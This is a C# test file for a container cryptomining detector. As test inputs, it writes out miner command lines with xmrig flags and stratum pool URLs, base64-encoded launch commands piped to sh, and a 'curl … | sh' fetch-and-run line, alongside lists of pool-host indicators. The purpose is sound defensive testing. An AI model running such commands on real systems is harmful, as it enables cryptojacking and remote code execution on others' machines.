using CsCheck;
using Davy.CloudRun;
using Davy.Detection;
using Davy.Indicators;

namespace Davy.Tests.Detection;

public sealed class CryptominingCommandsTests
{
    const string Wallet = "48abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJK";

    static readonly CryptominingCommands Detector = new();

    static Verdict Judge(Container container) => Assert.Single(Detector.Judge(Some.Deployment(container), IndicatorSet.Empty));

    static Verdict Judge(params IReadOnlyList<string> args) => Judge(Some.Container(args: args));

    static Verdict JudgeVariables(params IReadOnlyList<EnvironmentVariable> variables) => Judge(Some.Container() with { Environment = variables });

    static Davy.Detection.Match Found(Verdict verdict) => Assert.IsType<Verdict.Malicious>(verdict).Match;

    [Fact]
    public void EachContainerIsJudgedByItself()
    {
        var verdicts = Detector.Judge(Some.Deployment(Some.Container(), Some.Container(args: ["--donate-level=1"]), Some.Container(args: ["serve"])), IndicatorSet.Empty);

        Assert.Equal(["Clean", "Malicious", "Clean"], verdicts.Select(verdict => verdict.GetType().Name));
    }

    [Fact]
    public void AStrongSignalIsCertainAndSaysWhereItStood()
    {
        var match = Found(Judge("serve", "--donate-level", "1"));

        Assert.Equal(Certainty.Certain, match.Certainty);
        Assert.Equal("", match.WhyPossible);
        Assert.Equal("donate-flag", match.Indicator);
        Assert.Equal(MiningCommands.Default.List, match.List);
        Assert.Equal("", match.Repository);
        Assert.Null(match.Kind);
        Assert.Equal($"{Some.Specification}.args[1]", match.Place);
        Assert.Contains(match.Sources, source => source.Where == "https://github.com/xmrig/xmrig");
    }

    [Fact]
    public void SignalsStandInTheSameOrderWhereverTheyWereSeen()
    {
        string[] options = ["--donate-level=1", "stratum+tcp://mine.example.com:1", "--cpu-priority 5", "--nicehash"];

        var forward = Found(Judge(options)).Indicator;

        Assert.Equal("stratum-scheme, donate-flag, nicehash-flag, cpu-priority-flag", forward);
        Assert.Equal(forward, Found(Judge([.. options.Reverse()])).Indicator);
    }

    [Theory]
    [InlineData("--nicehash")]
    [InlineData("-o pool.example.com:3333")]
    [InlineData("--max-cpu-usage=90")]
    [InlineData("-u " + Wallet)]
    public void AMediumSignalIsNothingAlone(string args) => Assert.IsType<Verdict.Clean>(Judge(args.Split(' ')));

    [Fact]
    public void TwoMediumSignalsArePossible()
    {
        var match = Found(Judge("-o", "pool.example.com:3333", "-u", Wallet));

        Assert.Equal(Certainty.Possible, match.Certainty);
        Assert.NotEqual("", match.WhyPossible);
    }

    [Fact]
    public void AMediumAndAWeakSignalArePossible() => Assert.Equal(Certainty.Possible, Found(Judge("--nicehash", "-t", "$(nproc)")).Certainty);

    [Fact]
    public void WeakSignalsAreNeverEnough() =>
        Assert.IsType<Verdict.Clean>(Judge("sh", "-c", "modprobe msr; sysctl vm.nr_hugepages=9; curl https://a.example.com | sh; x --cpu-priority 5 -t $(nproc) -u 0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a"));

    [Fact]
    public void OnePieceOfTextIsNotItsOwnCompany() => Assert.IsType<Verdict.Clean>(Judge("-o", "randomx.rplant.xyz:7166"));

    [Fact]
    public void WalletsAreNotEachOthersCompany() =>
        Assert.IsType<Verdict.Clean>(Judge("-u", Wallet, "-w", "0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a", "ZEPHs" + Wallet));

    [Theory]
    [InlineData("POOL.supportxmr.COM:3333", "pool")]
    [InlineData("ssl://u:p@pool.supportxmr.com:3333", "pool")]
    [InlineData("pool.supportxmr.com", "pool")]
    public void AKnownPoolIsEnough(string arg, string signal) => Assert.Equal(signal, Found(Judge(arg)).Indicator);

    [Theory]
    [InlineData("https://pool.supportxmr.com/")]
    [InlineData("ops@minexmr.com")]
    [InlineData("minexmr.com")]
    [InlineData("notsupportxmr.com:3333")]
    [InlineData("supportxmr.com.example.com:3333")]
    [InlineData("www.nanopool.org")]
    public void AMentionOfAPoolIsNot(string arg) => Assert.IsType<Verdict.Clean>(Judge(arg));

    [Theory]
    [InlineData("pkill xmrig")]
    [InlineData("while pgrep -x minerd; do sleep 1; done")]
    [InlineData("ps | grep xmrig | xargs kill")]
    [InlineData("alias xmrig='echo Blocked'")]
    [InlineData("echo \"0.0.0.0 pool.minexmr.com\" >> /etc/hosts")]
    [InlineData("rm -f /tmp/xmrig/xmrig")]
    public void WhatAScriptFightsIsNotWhatItDoes(string script) => Assert.IsType<Verdict.Clean>(Judge("sh", "-c", script));

    [Theory]
    [InlineData("pkill xmrig; ./xmrig -o 192.0.2.1:1")]
    [InlineData("pkill xmrig && ./job -o pool.minexmr.com:443")]
    [InlineData("grep -q don't /x | ./job --donate-level 1")]
    [InlineData("bash -c 'kill 1 | ./job --donate-level 1'")]
    [InlineData("grep $(./job -o stratum+tcp://192.0.2.1:3333) x")]
    public void AFightBesideItHidesNoMiner(string script) => Assert.Equal(Certainty.Certain, Found(Judge("sh", "-c", script)).Certainty);

    [Fact]
    public void AValueOfAnyVariableIsLookedAtButNoProgramIsSoughtThere()
    {
        Assert.Equal("donate-flag", Found(JudgeVariables(Some.Variable("EXTRA", "--donate-level 1"))).Indicator);
        Assert.IsType<Verdict.Clean>(JudgeVariables(Some.Variable("DENIED_PROCESS", "xmrig")));
    }

    [Fact]
    public void AVariableIsShownByNameWithItsPool()
    {
        var match = Found(JudgeVariables(Some.Variable("POOL_URL", "ssl://me:hidden@xmr.example.com:443"), Some.Variable("DONATE_LEVEL", "1")));

        Assert.Equal(["POOL_URL=ssl://…xmr.example.com:443", "DONATE_LEVEL=1"], match.Evidence.Select(evidence => evidence.Text));
    }

    [Fact]
    public void TextInBase64IsLookedInto()
    {
        var match = Found(Judge("sh", "-c", $"echo {Base64("nohup ./a -o pool.minexmr.com:443 -p hidden")} | base64 -d | sh"));

        Assert.Equal("decoded from base64", match.Transformation);
        Assert.Equal($"{Some.Specification}.args[2]", match.Place);
        Assert.Equal("…pool.minexmr.com:443…", match.Evidence[0].Text);
    }

    [Fact]
    public void WhatIsTooLongIsUndecidedUnlessWhatWasSeenIsEnough()
    {
        var tooLong = new string('x', CommandText.MaxLength + 1);

        Assert.Equal($"{Some.Specification}.args[1]", Assert.IsType<Verdict.Undecided>(Judge("a", tooLong)).Place);
        Assert.IsType<Verdict.Malicious>(Judge("--donate-level=1", tooLong));
        Assert.IsType<Verdict.Undecided>(JudgeVariables(Some.Variable("X", tooLong)));
    }

    [Fact]
    public void NoSecretLeavesWithTheEvidence()
    {
        var container = Some.Container(args:
        [
            "S3CRET", "-o", "stratum+tcp://S3CRET:S3CRET@pool.minexmr.com:3333,S3CRET", "-u", Wallet + ".S3CRET:S3CRET", "-p", "S3CRET", "--donate-level=1;S3CRET", "-a", "rx/0", "S3CRET",
            "https://S3CRET:S3CRET@files.example.com/S3CRET/xmrig-6.tar.gz?token=S3CRET", "curl -H S3CRET https://S3CRET | sh", "{\"donate-level\": 1, \"pass\": \"S3CRET\", \"pools\": [{\"url\": \"S3CRET\"}]}",
            Base64("S3CRET --nicehash S3CRET -o S3CRET:S3CRET@mine.example.com:3333 S3CRET"), "/S3CRET/xmrig/S3CRET", "stratum://S3CRET@S3CRET@192.0.2.1:1", "-epool", "S3CRET",
        ]) with
        {
            Environment = [Some.Variable("POOL_URL", "tcp://S3CRET:S3CRET@pool.example.com:1234"), Some.Variable("POOL_USER", Wallet + "/S3CRET"), Some.Variable("RIG_ID", "S3CRET"), Some.Variable("KEY", "S3CRET --nicehash S3CRET")],
        };

        var match = Found(Judge(container));

        Assert.True(match.Evidence.Count > 10);
        Assert.DoesNotContain(match.Evidence, evidence => evidence.Text.Contains("S3CRET", StringComparison.Ordinal));
        Assert.DoesNotContain("S3CRET", match.ToString(), StringComparison.Ordinal);
    }

    /// <summary>Where an argument ends says nothing: options and values are cut in many ways.</summary>
    [Fact]
    public void AMinerIsFoundHoweverItsLineIsCutIntoArguments()
    {
        const string Line = "./a -a rx/0 -o stratum+tcp://mine.example.com:3333 -u w --donate-level 1";
        var words = Line.Split(' ');

        Gen.Int[1, words.Length - 1].Sample(cut => Judge(string.Join(' ', words[..cut]), string.Join(' ', words[cut..])) is Verdict.Malicious { Match.Certainty: Certainty.Certain }, iter: 100);
    }

    [Fact]
    public void AnyTextIsJudgedWithoutAFault() =>
        Gen.String.Array[0, 8].Sample(args => Judge([.. args, "'", "\"", "`|(;&$(", "://:@."]) is not null, iter: 2_000);

    static string Base64(string text) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(text));
}
